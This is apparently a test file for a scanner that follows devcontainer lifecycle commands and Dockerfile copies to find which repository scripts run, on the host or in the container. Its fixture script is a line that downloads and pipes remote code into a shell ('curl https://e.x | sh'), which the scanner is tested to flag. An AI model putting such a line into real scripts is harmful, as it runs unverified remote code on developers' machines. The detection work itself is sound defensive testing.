import { describe, expect, it } from 'vitest';
import { memoryFiles } from '../../../src/model/files.ts';
import { readWorkspace } from '../../../src/model/read.ts';

const PIPED = 'curl https://e.x | sh\n';

/** Which files a configuration's scripts come from, when they run and where; and what was not checked. */
async function scripts(config: string, files: Record<string, string>) {
  const { workspace } = await readWorkspace(memoryFiles({ '.devcontainer/devcontainer.json': config, ...files }));
  return {
    found: workspace.configurations.flatMap((configuration) =>
      configuration.scripts
        .filter(({ span }) => span.file !== '.devcontainer/devcontainer.json')
        .map(({ value, span }) => `${value.hook} ${value.on} ${span.file} ${value.shell.piped.length}`),
    ),
    reasons: workspace.notChecked.map(({ reason }) => reason),
  };
}

describe('a command calls a script of the repository', () => {
  it.each([
    ['by its path', '"bash .devcontainer/x.sh"'],
    ['as a list', '["bash", ".devcontainer/x.sh"]'],
    ['in an object', '{ "a": "true", "b": "sudo .devcontainer/x.sh --now" }'],
    ['with the folder of the workspace', '"${containerWorkspaceFolder}/.devcontainer/x.sh"'],
    ['at the usual place', '"/workspaces/anything/.devcontainer/x.sh"'],
    ['behind cd', '"cd .devcontainer && ./x.sh"'],
    ['by a script between', '"sh one.sh"'],
    ['beside the script between', '"sh .devcontainer/two.sh"'],
    ['without an ending', '"./.devcontainer/plain"'],
  ])('%s', async (_, command) => {
    const { found, reasons } = await scripts(`{ "image": "debian", "postCreateCommand": ${command} }`, {
      '.devcontainer/x.sh': PIPED,
      'one.sh': '# not.sh\n.devcontainer/x.sh\n',
      '.devcontainer/two.sh': 'DIR="$(dirname "$0")"\n"$DIR/x.sh"\n',
      '.devcontainer/plain': '#!/usr/bin/env bash\n.devcontainer/x.sh\n',
    });
    expect(found).toContain('postCreateCommand container .devcontainer/x.sh 1');
    expect(reasons).toEqual([]);
  });

  it('for every place that it runs in', async () => {
    const { found } = await scripts(
      '{ "image": "debian", "initializeCommand": "./x.sh", "postStartCommand": "./x.sh" }',
      { 'x.sh': PIPED },
    );
    expect(found).toEqual(['initializeCommand host x.sh 1', 'postStartCommand container x.sh 1']);
  });

  it.each([
    ['by a copy into a folder', 'COPY a.sh b.sh /usr/local/bin/', '/usr/local/bin/a.sh'],
    ['by a copy of another name', 'COPY ["a.sh", "/opt/start"]', '/opt/start'],
    ['by a copy of a folder', 'COPY scripts /opt', '/opt/in/c.sh'],
    ['by a copy of a pattern', 'COPY *.sh /opt/', '/opt/a.sh'],
    ['by a copy of a longer pattern', 'COPY *?*.*h /opt/', '/opt/a.sh'],
    ['in a working folder', 'WORKDIR /srv\nCOPY a.sh ./', '/srv/a.sh'],
    ['on the search path', 'COPY a.sh /usr/local/bin/', 'sudo a.sh'],
  ])('that the Dockerfile copies: %s', async (_, line, command) => {
    const { found } = await scripts(`{ "build": { "dockerfile": "Dockerfile" }, "postStartCommand": "${command}" }`, {
      '.devcontainer/Dockerfile': `FROM debian\n${line}\n`,
      '.devcontainer/a.sh': PIPED,
      '.devcontainer/b.sh': 'true\n',
      '.devcontainer/scripts/in/c.sh': PIPED,
    });
    expect(found.filter((script) => script.endsWith('.sh 1'))).toEqual([
      expect.stringMatching(/^postStartCommand container \.devcontainer\/.*[ac]\.sh 1$/),
    ]);
  });

  it.each(['COPY b*.sh /opt/', 'COPY *??.?? /opt/', 'COPY ??*.sh /opt/', 'COPY *.s /opt/'])(
    'not by %s',
    async (line) => {
      const { found } = await scripts('{ "build": { "dockerfile": "Dockerfile" }, "postStartCommand": "/opt/a.sh" }', {
        '.devcontainer/Dockerfile': `FROM debian\n${line}\n`,
        '.devcontainer/a.sh': PIPED,
      });
      expect(found.filter((script) => script.includes('a.sh'))).toEqual([]);
    },
  );

  it('while the image is built, from the context that the build names', async () => {
    const { found } = await scripts('{ "build": { "dockerfile": "Dockerfile", "context": ".." } }', {
      '.devcontainer/Dockerfile': 'FROM debian\nCOPY tools/a.sh /tmp/\nRUN bash /tmp/a.sh\n',
      'tools/a.sh': PIPED,
    });
    expect(found).toContain('build build tools/a.sh 1');
  });

  it('that the Dockerfile itself writes', async () => {
    const { found } = await scripts('{ "build": { "dockerfile": "Dockerfile" } }', {
      '.devcontainer/Dockerfile': `FROM debian\nCOPY <<EOF /usr/local/bin/start.sh\n${PIPED}EOF\nCOPY <<EOF /etc/motd\n${PIPED}EOF\n`,
    });
    expect(found).toEqual(['start container .devcontainer/Dockerfile 1']);
  });

  it('in a circle, once', async () => {
    const { found } = await scripts('{ "image": "debian", "postCreateCommand": "./a.sh" }', {
      'a.sh': './b.sh\n',
      'b.sh': './a.sh\n',
    });
    expect(found).toEqual(['postCreateCommand container a.sh 0', 'postCreateCommand container b.sh 0']);
  });

  it('that is not there, and it is said', async () => {
    const { reasons } = await scripts('{ "image": "debian", "postCreateCommand": "bash ./no.sh; echo not-me.sh" }', {});
    expect(reasons).toEqual(['it calls no.sh, which is not in this repository']);
  });

  it('so deep that the rest is listed', async () => {
    const chain = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`s${index}.sh`, `./s${index + 1}.sh\n`]));
    const { reasons } = await scripts('{ "image": "debian", "postCreateCommand": "./s0.sh" }', {
      ...chain,
      's9.sh': '',
    });
    expect(reasons).toEqual([expect.stringContaining('not read')]);
  });
});
